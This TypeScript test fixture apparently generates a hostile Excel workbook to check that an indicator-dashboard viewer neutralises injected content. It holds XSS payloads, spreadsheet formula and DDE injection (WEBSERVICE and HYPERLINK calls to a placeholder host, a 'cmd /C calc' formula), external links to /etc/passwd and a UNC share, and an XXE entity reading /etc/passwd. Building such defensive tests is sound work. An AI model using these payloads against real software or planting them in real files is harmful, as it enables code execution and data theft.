import { book, escaped, link, matrixWith, relationships, rowsOf, sheetTag, worksheet, type Bytes, type Cell } from "./plainBook";

/** Where a hostile text would send a person's browser; nothing answers there. */
export const OUTSIDE = "http://ataque.test:9";
/** What a script of the book would set, in any window. */
export const CANARY = "pntpCanario";

const RUN = `top.${CANARY}=1`;
/** Texts that become scripts, links or requests wherever a text is taken for markup. */
export const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `"><svg onload=${RUN}>`,
  `'-${RUN}-'`,
  `javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `<iframe src="${OUTSIDE}/marco"></iframe>`,
  `<a href="javascript:${RUN}">ver</a>`,
  `<style>*{background:url(${OUTSIDE}/fondo)}</style>`,
  `</style><base href="${OUTSIDE}/"><link rel=stylesheet href="${OUTSIDE}/hoja">`,
  `\${${RUN}}{{constructor.constructor('${RUN}')()}}`,
  `=HYPERLINK("${OUTSIDE}/?"&A1,"ver")`,
  `=WEBSERVICE("${OUTSIDE}/")`,
  `=IMAGE("${OUTSIDE}/imagen.png")`,
  `=cmd|'/C calc'!A0`,
  `{ HYPERLINK "${OUTSIDE}" }{ INCLUDEPICTURE "${OUTSIDE}/p" }{ DDEAUTO cmd calc }`,
  `![x](${OUTSIDE}/p.png) [x](javascript:${RUN})`,
];
/** All of them in one text. */
export const EVERYTHING = PAYLOADS.join(" ");

const formula = (text: string, value = "1"): Cell => ({ xml: `<c><f>${escaped(text)}</f><v>${value}</v></c>` });
const at = (i: number): string => PAYLOADS[i % PAYLOADS.length] ?? "";

/** Indicators whose every word is hostile, one payload after another; enough figures for each panel to have something to show. */
function rows(): Cell[][] {
  const whole = matrixWith({
    B3: EVERYTHING,
    C1: `Responsable de indicador ${at(1)}`,
    G1: `Logros esperados ${at(0)}`,
    K1: at(2),
    L1: `Avance ${at(1)}`,
  });
  PAYLOADS.forEach((payload, i) => {
    const code = `IOP.01.${String(i + 3).padStart(2, "0")}`;
    const cells = [
      `${code} ${payload}`,
      `${payload} casos`,
      payload,
      i % 3 === 0 ? payload : "ascendente",
      2020,
      30,
      15,
      20,
      i % 4 === 0 ? payload : 12,
      5 + i * 2,
    ];
    whole.push(cells);
  });
  PAYLOADS.forEach((payload, i) =>
    whole.push([
      `ISS.01.01.${String(i + 1).padStart(2, "0")}.01`,
      `Número ${payload}`,
      `Entidad ${payload}`,
      "descendente",
      2020,
      10,
      15,
      20,
      12,
      16,
    ]),
  );
  whole.push([
    "IOP.01.90",
    "Número de visitas",
    "Entidad",
    "ascendente",
    2020,
    10,
    15,
    20,
    formula(`HYPERLINK("${OUTSIDE}/","1")`),
    formula(`WEBSERVICE("${OUTSIDE}/")`, "16"),
  ]);
  whole.push([
    "IOP.01.91",
    "Número de llamadas",
    "Entidad",
    "ascendente",
    2020,
    10,
    15,
    20,
    formula("cmd|'/C calc'!A0"),
    formula(`IMAGE("${OUTSIDE}/i.png")`, "16"),
  ]);
  whole.push([
    "IOP.01.92",
    "Número de cartas",
    "Entidad",
    "ascendente",
    2020,
    10,
    15,
    20,
    formula("[1]Hoja1!$A$1"),
    formula("[1]!dde", "16"),
  ]);
  return [[`Política nacional ${EVERYTHING}`], [], ...whole];
}

/**
 * A workbook that attacks whoever shows it: cells, headers, sheets, names, comments, charts, links, formulas, pictures and books of
 * elsewhere.
 */
export function hostileBook(): Bytes {
  const outside = ' TargetMode="External"';
  const links = ["javascript:top.pntpCanario=1", "data:text/html,x", `${OUTSIDE}/enlace`, "file:///etc/passwd", "\\\\ataque.test\\c$\\x"];
  const sheet = "worksheets/_rels/sheet1.xml.rels";
  return book({
    rows: rowsOf(rows()),
    sheets: sheetTag(1, "<img src=x onerror=top.pnt") + sheetTag(2, "\"><svg onload=alert(1)>'&", "rId9"),
    names: `<definedNames>${PAYLOADS.map((text, i) => `<definedName name="n${i}" comment="${escaped(text)}">"${escaped(text.replaceAll('"', '""'))}"</definedName>`).join("")}</definedNames>`,
    head: '<sheetViews><sheetView workbookViewId="0"/></sheetViews>',
    tail:
      `<conditionalFormatting sqref="A1:J40"><cfRule type="expression" priority="1">` +
      `<formula>${escaped(`WEBSERVICE("${OUTSIDE}/cf")=1`)}</formula></cfRule></conditionalFormatting>` +
      `<dataValidations count="1"><dataValidation type="list" sqref="D5:D9" showInputMessage="1" ` +
      `promptTitle="${escaped(at(0))}" prompt="${escaped(at(1))}"><formula1>${escaped(`"${at(4)},b"`)}</formula1>` +
      "</dataValidation></dataValidations>" +
      `<hyperlinks>${links.map((_, i) => `<hyperlink ref="B${i + 6}" r:id="h${i}" tooltip="${escaped(at(1))}"/>`).join("")}</hyperlinks>` +
      `<headerFooter><oddHeader>&amp;L${escaped(escaped(at(0)))}</oddHeader></headerFooter><drawing r:id="d1"/><legacyDrawing r:id="v1"/>`,
    workbookLinks: `${link("rId9", "worksheet", "worksheets/sheet2.xml")}${link("x1", "externalLink", "externalLinks/externalLink1.xml")}`,
    types:
      `<Override PartName="/xl/worksheets/sheet2.xml" ContentType="${SHEETS}.worksheet+xml"/><Override ` +
      `PartName="/xl/comments1.xml" ContentType="${SHEETS}.comments+xml"/>` +
      `<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="${SHEETS}.externalLink+xml"/><Override ` +
      `PartName="/xl/drawings/drawing1.xml" ContentType="${OFFICE}.drawing+xml"/>` +
      `<Override PartName="/xl/charts/chart1.xml" ContentType="${OFFICE}.drawingml.chart+xml"/><Override ` +
      `PartName="/docProps/core.xml" ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>` +
      '<Default Extension="vml" ContentType="application/vnd.openxmlformats-officedocument.vmlDrawing"/>',
    numFmts: `<numFmts count="1"><numFmt numFmtId="164" formatCode="${escaped(`"${at(1).replaceAll('"', "'")}"0`)}"/></numFmts>`,
    parts: {
      "xl/worksheets/sheet2.xml": worksheet(rowsOf([[EVERYTHING, formula(`HYPERLINK("${OUTSIDE}/2")`)]])),
      [`xl/${sheet}`]: relationships(
        links.map((target, i) => link(`h${i}`, "hyperlink", escaped(target), outside)).join("") +
          link("c1", "comments", "../comments1.xml") +
          link("v1", "vmlDrawing", "../drawings/v1.vml") +
          link("d1", "drawing", "../drawings/drawing1.xml"),
      ),
      "xl/comments1.xml":
        `<comments xmlns="${MAIN}"><authors><author>${escaped(at(1))}</author></authors>` +
        `<commentList>${PAYLOADS.map((text, i) => `<comment ref="A${i + 5}" authorId="0"><text><t>${escaped(text)}</t></text></comment>`).join("")}</commentList>` +
        "</comments>",
      "xl/drawings/v1.vml":
        `<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape id="s" style="background:url(${OUTSIDE}/vml)">` +
        `<v:imagedata src="${OUTSIDE}/vml.png"/></v:shape></xml>`,
      "xl/drawings/drawing1.xml": drawing(),
      "xl/drawings/_rels/drawing1.xml.rels": relationships(
        link("g1", "chart", "../charts/chart1.xml") + link("p1", "image", `${OUTSIDE}/foto.png`, outside),
      ),
      "xl/charts/chart1.xml": chart(EVERYTHING),
      "xl/externalLinks/externalLink1.xml":
        `<externalLink xmlns="${MAIN}" xmlns:r="${LINKS}"><externalBook r:id="e1"><sheetNames><sheetName ` +
        `val="${escaped(at(1))}"/></sheetNames></externalBook></externalLink>`,
      "xl/externalLinks/_rels/externalLink1.xml.rels": relationships(link("e1", "externalLinkPath", `${OUTSIDE}/otro.xlsx`, outside)),
      "docProps/core.xml":
        `<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" ` +
        `xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>${escaped(EVERYTHING)}</dc:title></cp:coreProperties>`,
    },
  });
}

/** The same with an entity that asks for a file of the computer: no program may open it. */
export function bookOfEntities(): Bytes {
  const dtd = `<!DOCTYPE worksheet [<!ENTITY e SYSTEM "file:///etc/passwd"><!ENTITY f SYSTEM "${OUTSIDE}/dtd">]>`;
  return book({
    sheetTag: `${dtd}<worksheet xmlns="${MAIN}">`,
    rows: rowsOf(matrixWith({ C4: { xml: '<c t="inlineStr"><is><t>&e;&f;</t></is></c>' } })),
  });
}

const MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const LINKS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
const SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml";
const OFFICE = "application/vnd.openxmlformats-officedocument";
const A = "http://schemas.openxmlformats.org/drawingml/2006/main";
const C = "http://schemas.openxmlformats.org/drawingml/2006/chart";
const XDR = "http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing";

function drawing(): string {
  const place =
    "<xdr:from><xdr:col>12</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff>" +
    "</xdr:from><xdr:to><xdr:col>16</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>9</xdr:row><xdr:rowOff>0</xdr:rowOff>" +
    "</xdr:to>";
  const frame =
    `<xdr:graphicFrame macro=""><xdr:nvGraphicFramePr><xdr:cNvPr id="2" name="${escaped(at(1))}"/>` +
    `<xdr:cNvGraphicFramePr/></xdr:nvGraphicFramePr><xdr:xfrm><a:off x="0" y="0"/><a:ext cx="0" cy="0"/></xdr:xfrm>` +
    `<a:graphic><a:graphicData uri="${C}"><c:chart xmlns:c="${C}" r:id="g1"/></a:graphicData></a:graphic>` +
    "</xdr:graphicFrame>";
  const picture =
    `<xdr:pic><xdr:nvPicPr><xdr:cNvPr id="3" name="foto" descr="${escaped(at(0))}"/><xdr:cNvPicPr/></xdr:nvPicPr>` +
    `<xdr:blipFill><a:blip r:link="p1"/><a:stretch/></xdr:blipFill><xdr:spPr><a:prstGeom prst="rect"/></xdr:spPr>` +
    "</xdr:pic>";
  return (
    `<xdr:wsDr xmlns:xdr="${XDR}" xmlns:a="${A}" ` +
    `xmlns:r="${LINKS}">${[frame, picture].map((one) => `<xdr:twoCellAnchor>${place}${one}<xdr:clientData/></xdr:twoCellAnchor>`).join("")}</xdr:wsDr>`
  );
}

function chart(title: string): string {
  return (
    `<c:chartSpace xmlns:c="${C}" xmlns:a="${A}"><c:chart><c:title><c:tx><c:rich><a:bodyPr/><a:p><a:r>` +
    `<a:t>${escaped(title)}</a:t></a:r></a:p></c:rich></c:tx></c:title><c:plotArea><c:layout/></c:plotArea></c:chart>` +
    "</c:chartSpace>"
  );
}
